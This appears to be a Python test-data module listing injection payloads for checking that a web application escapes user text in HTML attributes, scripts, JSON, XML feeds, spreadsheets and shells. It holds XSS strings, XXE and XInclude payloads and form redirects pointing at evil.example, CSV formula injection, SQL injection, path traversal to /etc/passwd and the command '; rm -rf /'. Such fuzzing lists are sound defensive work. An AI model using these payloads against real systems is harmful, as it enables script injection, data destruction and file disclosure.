"""Words that end what they stand in: attributes, titles, fields, scripts, JSON, comments, XML."""

from __future__ import annotations

RUNS = "<img src=x onerror=alert(1)>"

# What a page puts words into, each as it would be ended.
ENDS = (
    ">", '">', "'>", "`>", "/>", '"/>', "-->", "--!>", "]]>", "?>", "*/", "}", "}}", "%}", '"}', '"]}', "\\\">",
    "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</noscript>", "</template>", "</iframe>",
    "</xmp>", "</noembed>", "</noframes>", "</plaintext>", "</button>", "</label>", "</a>", "</summary></details>",
    "</bdi></a></li></ul>", "</svg>", "</math>", "</head><body>", "</body></html>", "</time>", "</p></form>", "</td>",
    "</content></entry></feed>", "</loc></url></urlset>", "</name></author>", "</table></form></main>",
)  # fmt: skip
BREAKING_OUT = (
    *(f"{end}{RUNS}" for end in ENDS),
    *(f"x{end}<script>alert(1)</script>" for end in ENDS),
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x onmouseover=alert(1)",
    '" autofocus onfocus="alert(1)', "' autofocus onfocus='alert(1)", '"onfocus=alert(1) autofocus x="',
    '" style="position:fixed;inset:0" onclick="alert(1)', '" formaction="//evil.example', '" href="javascript:alert(1)',
    '" src="//evil.example/x.png', '" srcdoc="<script>alert(1)</script>', '" http-equiv="refresh" content="0;url=//x',
    '" type="image" src="//evil.example/i.png', '"><input name=next value=//evil.example><x y="',
    "&quot; onmouseover=&quot;alert(1)", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;", "&#39; onfocus=&#39;alert(1)",
    "\\\" onmouseover=\\\"alert(1)", "\\x22 onmouseover=\\x22alert(1)", "\\u0022 onmouseover=\\u0022alert(1)",
    "\uff02 onmouseover=\uff02alert(1)", "\u201d onmouseover=\u201dalert(1)", "\x00\" onmouseover=\"alert(1)",
    '"\n onmouseover\n=\n"alert(1)', '"\tonmouseover="alert(1)', '"/onmouseover="alert(1)',
    '"\x0conmouseover="alert(1)',
    # JSON in a script, and what closes or comments it.
    "</script><script>alert(1)</script>", "</ScRiPt ><svg onload=alert(1)>", "<!--<script>", "<!--<script></script>",
    '","@type":"Person","url":"javascript:alert(1)","x":"', '"}</script><img src=x onerror=alert(1)>',
    '"}],"x":[{"y":"', '\\"}]', "\\", "\\\\\"", "\u2028\u2029", "\\u003c/script\\u003e", "]]></script><script>alert(1)",
    "/*</script>*/", "//\u2028alert(1)", "${alert(1)}", "#{alert(1)}", "{{7*7}}", "{%raw%}", "{# x #}", "%s%d%(x)s%%",
    "{0} {x} {x.__class__} {!r}", "%(name)s %(title)s", "$x ${x} $(x)", "__proto__", "constructor", "toString",
    # XML of feeds and sitemaps.
    "<![CDATA[x]]>", "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<?xml version='1.0'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "&x; &#1; &#xFFFE; &nbsp; &lt;b&gt;",
    "<!ENTITY x SYSTEM '//evil.example'>&x;", "<xi:include href='//evil.example'/>", "\x0b\x0c\x1b[2J\x7f",
    # What programs for tables run when somebody saves a list, and what shells and templates of mails read.
    '=cmd|"/c calc"!A1', "+1+1", "-1+1", '@SUM(1)', "=HYPERLINK(\"//evil.example\")", "\t=1+1", "; rm -rf /", "`id`",
    "' OR 1=1 --", "'; DROP TABLE forum_post; --", "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "C:\\x", "con.txt",
)  # fmt: skip
